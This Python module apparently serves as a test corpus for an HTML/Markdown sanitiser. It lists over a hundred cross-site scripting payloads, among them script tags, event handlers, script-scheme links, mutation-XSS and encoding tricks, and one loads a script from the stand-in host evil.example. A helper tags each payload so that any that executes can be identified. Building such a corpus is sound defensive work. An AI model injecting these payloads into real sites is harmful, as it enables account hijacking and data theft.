"""Cross-site scripting payloads, driven through every field a person controls.

Shapes: script tags, event handlers, javascript:/data:/vbscript: URLs in
Markdown links and images, SVG and MathML, entity-encoded and split schemes,
attribute breakouts, mutation-XSS shapes, template and CSS tricks. Each one,
if it got through, would call window.__xss__ or alert().
"""

_CALL = "window.__xss__(1)"

PAYLOADS = [
    # Script elements.
    f"<script>{_CALL}</script>",
    f"<SCRIPT>{_CALL}</SCRIPT>",
    "<script src=//evil.example/x.js></script>",
    f"<scr<script>ipt>{_CALL}</script>",
    f"<script/x>{_CALL}</script>",
    f"</script><script>{_CALL}</script>",
    f"<<script>{_CALL};//<</script>",
    f"<script>/*</script><script>*/{_CALL}</script>",
    # Event handlers.
    f"<img src=x onerror={_CALL}>",
    f'<img src="x" onerror="{_CALL}">',
    f"<IMG SRC=x OnErRoR={_CALL}>",
    f"<img src=x onerror\n={_CALL}>",
    f"<body onload={_CALL}>",
    f"<svg onload={_CALL}>",
    f"<svg/onload={_CALL}>",
    f"<div onmouseover={_CALL}>hover</div>",
    f"<input autofocus onfocus={_CALL}>",
    f"<details open ontoggle={_CALL}>",
    f"<video><source onerror={_CALL}>",
    f"<audio src=x onerror={_CALL}>",
    f"<marquee onstart={_CALL}>",
    f"<select autofocus onfocus={_CALL}>",
    f"<textarea autofocus onfocus={_CALL}>",
    f"<keygen autofocus onfocus={_CALL}>",
    f"<a onclick={_CALL}>click</a>",
    f"<p onpointerenter={_CALL}>x</p>",
    f"<img src=x:x onerror={_CALL}//",
    # Markdown links and images with script URLs.
    f"[click](javascript:{_CALL})",
    f"[click](JavaScript:{_CALL})",
    f"[click]( javascript:{_CALL})",
    f"[click](javascript&#58;{_CALL})",
    f"[click](javascript&colon;{_CALL})",
    f"[click](&#106;avascript:{_CALL})",
    f"[click](&#x6A;avascript:{_CALL})",
    f"[click](java\tscript:{_CALL})",
    f"[click](jav&#x09;ascript:{_CALL})",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[click](data:text/html,<script>{_CALL}</script>)",
    f"![x](javascript:{_CALL})",
    f'![x](x" onerror="{_CALL})',
    f'![x](https://example.org/x.png"onerror="{_CALL})',
    f'[x](https://example.org/"onmouseover="{_CALL})',
    f"<javascript:{_CALL}>",
    f"<JAVASCRIPT:{_CALL}>",
    f"[a][ref]\n\n[ref]: javascript:{_CALL}",
    f"[a][ref]\n\n[ref]: data:text/html,<script>{_CALL}</script>",
    f"[a](<javascript:{_CALL}>)",
    f"[a](javascript://%0a{_CALL})",
    f"[a](\\javascript:{_CALL})",
    f"[<img src=x onerror={_CALL}>](https://example.org/)",
    # Raw anchors and forms.
    f'<a href="javascript:{_CALL}">x</a>',
    f"<a href=javascript:{_CALL}>x</a>",
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:'
    f'{_CALL}">x</a>',
    f'<a href="jav&#x0A;ascript:{_CALL}">x</a>',
    f'<a href=" &#14; javascript:{_CALL}">x</a>',
    f'<a xlink:href="javascript:{_CALL}">x</a>',
    f'<form action="javascript:{_CALL}"><button>x</button></form>',
    f'<button formaction="javascript:{_CALL}">x</button>',
    f'<iframe src="javascript:{_CALL}"></iframe>',
    f'<iframe srcdoc="<script>{_CALL}</script>"></iframe>',
    f'<object data="javascript:{_CALL}"></object>',
    f'<embed src="javascript:{_CALL}">',
    f'<base href="javascript:{_CALL}//">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{_CALL}">',
    f'<link rel="import" href="data:text/html,<script>{_CALL}</script>">',
    # SVG and MathML.
    f"<svg><script>{_CALL}</script></svg>",
    f'<svg><a xlink:href="javascript:{_CALL}"><text>x</text></a></svg>',
    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>",
    f'<svg><set attributeName="onmouseover" to="{_CALL}"/></svg>',
    f"<svg><foreignObject><img src=x onerror={_CALL}></foreignObject></svg>",
    f'<math><mtext><table><mglyph><style><img src=x onerror="{_CALL}">',
    f'<math href="javascript:{_CALL}">x</math>',
    '<math><maction actiontype="statusline" '
    f'xlink:href="javascript:{_CALL}">x</maction></math>',
    # Mutation XSS shapes.
    f'<noscript><p title="</noscript><img src=x onerror={_CALL}>">',
    f'<svg></p><style><a id="</style><img src=1 onerror={_CALL}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_CALL}>",
    f"<listing>&lt;img src=x onerror={_CALL}&gt;</listing>",
    f'<xmp><p title="</xmp><img src=x onerror={_CALL}>">',
    f'<title><a title="</title><img src=x onerror={_CALL}>">',
    f'<textarea><img title="</textarea><img src=x onerror={_CALL}>">',
    f'<style><img src="</style><img src=x onerror={_CALL}//">',
    f'<noembed><img title="</noembed><img src=x onerror={_CALL}>"></noembed>',
    f"<template><img src=x onerror={_CALL}></template>",
    f"<!--><img src=x onerror={_CALL}>-->",
    f"<!-- --!><img src=x onerror={_CALL}> -->",
    f"<![CDATA[><img src=x onerror={_CALL}>]]>",
    # Attribute breakouts (for values placed in attributes: titles, og tags).
    f'" onmouseover="{_CALL}" x="',
    f"' onmouseover='{_CALL}' x='",
    f'"><script>{_CALL}</script>',
    f"'><script>{_CALL}</script>",
    f'"><img src=x onerror={_CALL}>',
    f"</title><script>{_CALL}</script>",
    f"</textarea><script>{_CALL}</script>",
    f"</style><script>{_CALL}</script>",
    f'"; {_CALL}; "',
    f"'; {_CALL}; '",
    f"</script><img src=x onerror={_CALL}>",
    f'{{"a": "</script><script>{_CALL}</script>"}}',
    # CSS and other tricks.
    f'<div style="background:url(javascript:{_CALL})">x</div>',
    f'<div style="width:expression({_CALL})">x</div>',
    f"<style>@import 'javascript:{_CALL}';</style>",
    '<p style="behavior:url(x.htc)">x</p>',
    # Template and framework injections (inert unless something evaluates them).
    "{{constructor.constructor('window.__xss__(1)')()}}",
    "${window.__xss__(1)}",
    "{% raw %}{{7*7}}{% endraw %}",
    # Entity and encoding tricks.
    f"&lt;script&gt;{_CALL}&lt;/script&gt;",
    f"&#60;script&#62;{_CALL}&#60;/script&#62;",
    f"\\u003cscript\\u003e{_CALL}\\u003c/script\\u003e",
    f"%3Cscript%3E{_CALL}%3C/script%3E",
    f"<scr\x00ipt>{_CALL}</scr\x00ipt>",
    "<img src=x onerror=&#119;indow.__xss__(1)>",
    "<img src=x onerror=\\u0077indow.__xss__(1)>",
    f"＜script＞{_CALL}＜/script＞",
    f"<ſcript>{_CALL}</ſcript>",
    # Unicode direction and invisible characters around a link.
    f"[\u202ejavascript:](javascript:{_CALL})",
    f"[x](\u200bjavascript:{_CALL})",
]


def hooked(number: int, payload: str) -> str:
    """`payload` calling `window.__pwned(number)` wherever it would run script.

    The browser test installs that hook before any page script, so a payload
    that ran is identified by its number even if the page shadows alert() or
    __xss__. The base64 data: URL is decoded, rewritten and encoded again.
    Payloads that call nothing (an external script, vbscript:, a template
    literal) come back unchanged.
    """
    import base64
    import re

    call = f"__pwned({number})"
    payload = payload.replace("__xss__(1)", call)

    def rewrite(match: re.Match) -> str:
        html = base64.b64decode(match.group(1)).decode()
        html = html.replace("alert(1)", f"window.{call}")
        return "base64," + base64.b64encode(html.encode()).decode()

    return re.sub(r"base64,([A-Za-z0-9+/=]+)", rewrite, payload)


# The corpus with each payload calling window.__pwned(<its index>).
HOOKED_PAYLOADS = [hooked(number, p) for number, p in enumerate(PAYLOADS)]
